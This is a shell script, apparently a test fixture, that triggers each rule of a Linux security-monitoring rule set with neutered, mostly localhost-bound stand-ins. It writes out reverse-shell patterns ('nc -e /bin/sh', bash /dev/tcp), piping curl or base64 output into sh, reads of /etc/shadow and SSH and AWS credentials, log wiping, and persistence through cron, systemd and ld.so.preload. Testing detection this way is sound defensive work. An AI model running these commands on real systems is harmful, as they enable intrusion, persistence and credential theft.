#!/bin/sh
# SPDX-License-Identifier: BSD-2-Clause
# Harmless deeds, one or more for each shipped rule: what they change, they change in a mount namespace of
# their own, and what they run is /bin/true under another name. rules_live.bats runs it under capture:
#	deeds.sh DIRECTORY
# Lines "deed RULE" say what is expected of what follows.
set -u
D=$1
mount --make-rprivate /
mkdir -p "$D/up" "$D/work" "$D/bin"
mount -t tmpfs none "$D/up"
for d in etc root var boot; do
	mkdir -p "$D/up/$d" "$D/up/$d.work"
	mount -t overlay overlay -o "lowerdir=/$d,upperdir=$D/up/$d,workdir=$D/up/$d.work" "/$d"
done
mount -t tmpfs none /mnt; ip link set lo up 2>/dev/null || ifconfig lo up
mount -t tmpfs none /tmp; mount -t tmpfs none /dev/shm; mkdir -p "$D" "$D/bin"
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
as() { cp /bin/true "$D/bin/$1"; name=$1; shift; "$D/bin/$name" "$@"; }	# a true of another name
py() { /usr/bin/python3 -c "$@"; }
deed() { :; }

deed "Password file read by an untrusted program"
cat /etc/shadow >/dev/null
deed "Program executed from memory"
py 'import os
f = os.memfd_create("x"); os.write(f, open("/bin/true", "rb").read())
if not os.fork(): os.execve(f, ["runc"], {})
os.wait()'
deed "Program executed from shared memory"
cp /bin/true /dev/shm/t; /dev/shm/t
deed "Program executed from a hidden directory"
mkdir /tmp/.hide; cp /bin/true /tmp/.hide/t; /tmp/.hide/t
deed "Service account runs a program from an open directory"
cp /bin/true /tmp/t; chmod 755 /tmp/t; setpriv --reuid=33 --regid=33 --clear-groups /tmp/t
deed "Deleted program executed"
py 'import os, shutil
shutil.copy("/bin/true", "/tmp/gone"); f = os.open("/tmp/gone", os.O_RDONLY); os.unlink("/tmp/gone")
if not os.fork(): os.execve(f, ["gone"], {})
os.wait()'
deed "Outbound connection from a shell"
bash -c 'exec 3<>/dev/tcp/127.0.0.1/9' 2>/dev/null
deed "Standard input or output redirected to a socket"
py 'import os, socket
l = socket.create_server(("127.0.0.1", 0)); c = socket.create_connection(l.getsockname())
if not os.fork(): os.dup2(c.fileno(), 0); os._exit(0)
os.wait()'
deed "Interpreter opens a shell over the network"
py 'import socket # then dup2 and /bin/sh'
deed "Netcat runs a program"
as nc -e /bin/sh 127.0.0.1 9
deed "Shell started by a network service"
cp /bin/dash "$D/bin/nginx"; "$D/bin/nginx" -c 'sh -c "id >/dev/null"; true'
deed "Downloaded text piped into a shell"
sh -c ': curl http://127.0.0.1/x | sh'
deed "Decoded text piped into a shell"
sh -c 'echo | base64 -d | sh'
deed "Scheduled task written"
echo >/etc/cron.d/secmon-test
deed "Systemd unit written"
echo >/etc/systemd/system/secmon-test.service
deed "Start-up file of the system written"
echo >/etc/profile.d/secmon-test.sh
deed "Start-up file of a user written"
echo >>/root/.bashrc
deed "SSH login key added"
mkdir -p /root/.ssh; echo >>/root/.ssh/authorized_keys
deed "Preloaded library configured"
: >/etc/ld.so.preload
deed "Authentication changed"
echo >/etc/pam.d/secmon-test
deed "Account database changed by hand"
: >>/etc/passwd
deed "Account created"
useradd --help >/dev/null
deed "Program of the system overwritten"
: >/boot/secmon-test
deed "Set-user-ID bit set"
cp /bin/true /tmp/suid; chmod u+s /tmp/suid
deed "File capabilities set"
as setcap cap_net_raw+ep /tmp/t
deed "Shell with borrowed root rights"
py 'import os; os.setresuid(1000, 0, 0); os.execv("/bin/sh", ["sh", "-c", ":"])'
deed "Sudo rules changed"
mkdir -p /etc/sudoers.d; echo >/etc/sudoers.d/secmon-test
deed "Another process attached to" "Memory of another process written" "Memory of another process read"
py 'import ctypes, os, signal, time
c = ctypes.CDLL(None, use_errno=True); pid = os.fork()
if not pid: signal.pause()
assert c.ptrace(16, pid, None, None) == 0, ctypes.get_errno()
os.waitpid(pid, 0)
os.close(os.open(f"/proc/{pid}/mem", os.O_WRONLY)); os.close(os.open(f"/proc/{pid}/mem", os.O_RDONLY)); os.kill(pid, 9); os.waitpid(pid, 0)'
deed "Namespaces of init entered"
as nsenter -t 1 -m true
deed "Own user namespace made by an unusual program"
setpriv --reuid=1000 --clear-groups /usr/bin/python3 -c 'import ctypes; ctypes.CDLL(None).unshare(0x10000000)'
deed "Log cleared"
: >/var/log/auth.log; rm -f /var/log/wtmp
deed "Shell history cleared"
: >/root/.bash_history
deed "Security program stopped"
as systemctl stop auditd.service
deed "Firewall flushed"
as nft flush ruleset
deed "Program named like a kernel thread"
bash -c 'exec -a "[kworker/0:3]" /bin/true'
deed "Program removes its own file"
cp /usr/bin/rm /tmp/ownrm; /tmp/ownrm -f /tmp/ownrm
deed "File made unchangeable"
as chattr +i /etc/secmon-test
deed "Times of a system file forged"
as touch -r /bin/ls /usr/bin/secmon-test
deed "Private SSH key read by another program"
echo >/root/.ssh/id_secmon; cat /root/.ssh/id_secmon >/dev/null
deed "Stored credentials read by a text tool"
mkdir -p /root/.aws; echo >/root/.aws/credentials; cat /root/.aws/credentials >/dev/null
deed "Search for secrets"
find "$D" -name id_rsa
deed "Network service looks around"
"$D/bin/nginx" -c 'whoami >/dev/null; true'
deed "Network scanner started"
as nmap -sS 127.0.0.1
deed "Packets of the network recorded"
py 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'
deed "Search for set-user-ID programs"
find "$D" -perm -4000
deed "Privilege escalation script run"
as sh ./linpeas.sh
deed "Metadata service of the cloud asked" "Connection by a program from an open directory"
cp /usr/bin/python3 /tmp/agent; /tmp/agent -c 'import socket	# there is no network here but lo
for a in "169.254.169.254", "203.0.113.9": s = socket.socket(); s.setblocking(False); s.connect_ex((a, 80))'
deed "Crypto miner started"
as worker -o stratum+tcp://127.0.0.1:3333
deed "Tunnel started"
as chisel client 127.0.0.1 R:socks
deed "SSH tunnel opened"
as ssh -fN -R 2222:localhost:22 user@127.0.0.1
deed "Listener opened by a general tool"
as nc -lvnp 4444
deed "Files sent out by a service or container"
cp /bin/true /mnt/curl; chmod 755 /mnt/curl; setpriv --reuid=33 --regid=33 --clear-groups /mnt/curl -T /etc/passwd http://127.0.0.1/
deed "Release agent of a cgroup set"
mkdir /tmp/cg; echo /x >/tmp/cg/release_agent
deed "Page faults handled in user space"
py 'import ctypes; assert ctypes.CDLL(None).syscall(323, 1) >= 0'
deed "Asynchronous calls set up by an unusual program"
py 'import ctypes; ctypes.CDLL(None).syscall(425, 1, ctypes.create_string_buffer(120))'
deed "BPF program loaded by an unusual program"
py 'import ctypes, struct
code = (ctypes.c_uint64 * 2)(0xb7, 0x95); lic = ctypes.create_string_buffer(b"GPL")	# r0 = 0; exit
attr = ctypes.create_string_buffer(struct.pack("IIQQ", 1, 2, ctypes.addressof(code), ctypes.addressof(lic)), 128)
assert ctypes.CDLL(None).syscall(321, 5, attr, 128) >= 0'
deed "Kernel protection switched off"
cat /proc/sys/kernel/randomize_va_space >"$D/aslr"; cat "$D/aslr" >/proc/sys/kernel/randomize_va_space
deed "Kernel told to run a program"
cat /proc/sys/kernel/core_pattern >"$D/core"; cat "$D/core" >/proc/sys/kernel/core_pattern
exit 0
